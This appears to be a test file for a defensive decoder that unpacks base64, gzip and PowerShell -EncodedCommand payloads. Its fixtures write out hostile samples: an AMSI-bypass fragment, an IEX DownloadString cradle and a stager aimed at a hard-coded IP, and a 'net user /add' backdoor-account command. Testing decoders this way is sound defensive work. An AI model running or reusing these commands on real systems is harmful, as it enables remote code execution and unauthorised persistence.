import { gzipSync, deflateRawSync } from "node:zlib";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  autoDecode,
  decodeAs,
  decodeBase64,
  decodeHex,
  decodePowerShellCommandLine,
  decodeUrl,
  encodeBase64,
  findEncodedPowerShell,
} from "../../src/index.ts";

/** PowerShell's own encoding of a script for -EncodedCommand: UTF-16LE, then base64 (computed with Node's Buffer, an independent implementation). */
const psEncode = (script: string) => Buffer.from(script, "utf16le").toString("base64");

describe("decode: codecs", () => {
  it("decodes the Empire marker from the BOTSv2 write-ups (reference §8) to the AMSI-bypass text", () => {
    const out = decodeAs("base64", "WwBSAGUARgBdAC4AQQBTAHMARQBNAGIATABZAC4ARwBlAFQAVABZAHAA");
    // Python: base64.b64decode(...).decode("utf-16le") == "[ReF].ASsEMbLY.GeTTYp"
    expect(out).toMatchObject({ text: "[ReF].ASsEMbLY.GeTTYp", steps: ["base64", "utf-16le"] });
  });

  it("base64: standard, URL-safe, unpadded, with whitespace; rejects non-base64", () => {
    expect(new TextDecoder().decode(decodeBase64("SGVsbG8=")!)).toBe("Hello");
    expect(new TextDecoder().decode(decodeBase64("SGVs\nbG8")!)).toBe("Hello");
    expect(Array.from(decodeBase64("-_8")!)).toEqual([0xfb, 0xff]);
    expect(decodeBase64("SGVsb!8=")).toBeNull();
    expect(decodeBase64("A")).toBeNull();
    expect(decodeBase64("")).toBeNull();
  });

  it("hex and URL encoding", () => {
    expect(decodeAs("hex", "48 65 6c 6c 6f")?.text).toBe("Hello");
    expect(decodeAs("hex", "\\x48\\x69")?.text).toBe("Hi");
    expect(decodeHex("4g")).toBeNull();
    expect(decodeUrl("a%20b%2Bc+d%zz")).toBe("a b+c d%zz");
    expect(decodeUrl("%E3%81%82")).toBe("あ");
  });

  it("gzip+base64, zlib and raw deflate (as PowerShell's DeflateStream writes)", () => {
    const script = "Write-Host 'staged'; IEX (New-Object Net.WebClient).DownloadString('https://45.77.65.211/news.php')";
    const gz = gzipSync(Buffer.from(script)).toString("base64");
    expect(decodeAs("base64-gzip", gz)).toMatchObject({ text: script, steps: ["base64", "gunzip", "utf-8"] });
    const raw = deflateRawSync(Buffer.from(script)).toString("base64");
    expect(decodeAs("base64-gzip", raw)?.text).toBe(script);
    expect(autoDecode(gz)[0].text).toBe(script);
    expect(autoDecode(raw)[0]).toMatchObject({ text: script, steps: ["base64", "raw inflate", "utf-8"] });
  });

  it("a gzip bomb is cut at the output cap, not expanded without bound", () => {
    const bomb = gzipSync(Buffer.alloc(20 * 1024 * 1024, 0x41)).toString("base64");
    const d = decodeAs("base64-gzip", bomb)!;
    expect(d.truncated).toBe(true);
    expect(d.text.length).toBe(4 * 1024 * 1024);
  });
});

describe("decode: PowerShell -enc in command lines", () => {
  const stager = "$wc=New-Object System.Net.WebClient;$u='Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko';$ser='https://45.77.65.211:443'";
  const b64 = psEncode(stager);

  it("finds -enc, -EncodedCommand, -e, -ec and slash/dash variants with the payload span", () => {
    for (const flag of ["-enc", "-EncodedCommand", "-e", "-ec", "/enc", "\u2013EnC", "-enco"]) {
      const line = `powershell.exe -noP -sta -w 1 ${flag} ${b64}`;
      const found = findEncodedPowerShell(line);
      expect(found, flag).toHaveLength(1);
      expect(found[0].decoded).toBe(stager);
      expect(line.slice(found[0].start, found[0].end)).toBe(b64);
      expect(found[0].flag).toBe(flag);
    }
  });

  it("ignores flags that are not -EncodedCommand and payloads that are not UTF-16LE text", () => {
    expect(findEncodedPowerShell(`powershell -ExecutionPolicy ${b64}`)).toEqual([]);
    expect(findEncodedPowerShell(`powershell -enc ${Buffer.from("plain utf8 text here").toString("base64")}`)).toEqual([]);
    expect(findEncodedPowerShell("powershell -enc !!!!")).toEqual([]);
  });

  it("replaces the payload inline, keeping the quotes around it", () => {
    expect(decodePowerShellCommandLine(`"C:\\ps.exe" -enc "${psEncode("whoami")}" -x`)).toBe('"C:\\ps.exe" -enc "whoami" -x');
    expect(decodePowerShellCommandLine("cmd.exe /c dir")).toBeNull();
  });

  it("auto-decodes nested FromBase64String payloads inside a decoded script", () => {
    const inner = Buffer.from("net user svcvnc /add", "utf16le").toString("base64");
    const outer = `IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String('${inner}')))`;
    const all = autoDecode(`powershell -enc ${psEncode(outer)}`);
    expect(all.map((d) => d.text)).toContain(outer);
    expect(all.find((d) => d.text === "net user svcvnc /add")?.steps).toEqual(["powershell -enc", "base64", "utf-16le", "FromBase64String", "utf-16le"]);
  });
});

describe("decode: fuzz", () => {
  it("never throws on arbitrary text, and every result is bounded", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 400 }), (s) => {
        for (const d of autoDecode(s)) expect(d.text.length).toBeLessThanOrEqual(4 * 1024 * 1024);
        findEncodedPowerShell(s);
        decodeUrl(s);
        for (const m of ["powershell", "base64", "base64-utf16le", "base64-gzip", "hex", "url"] as const) decodeAs(m, s);
      }),
      { numRuns: 300 },
    );
  }, 60_000);

  it("never throws on base64-looking noise (the likely input), and base64 round-trips", () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), (bytes) => {
        const b64 = encodeBase64(bytes);
        // Empty input is "nothing to decode" (null), not an empty result.
        if (bytes.length === 0) expect(decodeBase64(b64)).toBeNull();
        else expect(Array.from(decodeBase64(b64)!)).toEqual(Array.from(bytes));
        expect(b64).toBe(Buffer.from(bytes).toString("base64"));
        autoDecode(b64);
        autoDecode(`powershell -enc ${b64}`);
      }),
      { numRuns: 300 },
    );
  }, 60_000);
});
